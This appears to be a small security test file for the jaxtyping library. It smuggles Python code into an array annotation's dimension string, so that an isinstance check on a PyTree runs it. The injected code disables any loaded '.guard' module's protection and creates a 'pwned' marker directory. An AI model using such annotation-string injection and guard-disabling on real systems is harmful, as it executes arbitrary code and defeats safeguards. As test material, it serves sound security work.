"""file: the annotation with code in its dims stands in a tree."""

import jax.numpy as jnp
from jaxtyping import Array, Float, PyTree

OFF = '[m._State.__setitem__("on",0)for(n,m)in(list(__import__("sys").modules.items()))if(n.endswith(".guard"))]'
leaf = Float[Array, "2 ((" + OFF + 'or(1))and(__import__("os").mkdir("pwned_jaxtyping_in_a_union"))or(2))']
x = isinstance({"w": jnp.ones((2, 2))}, PyTree[leaf])
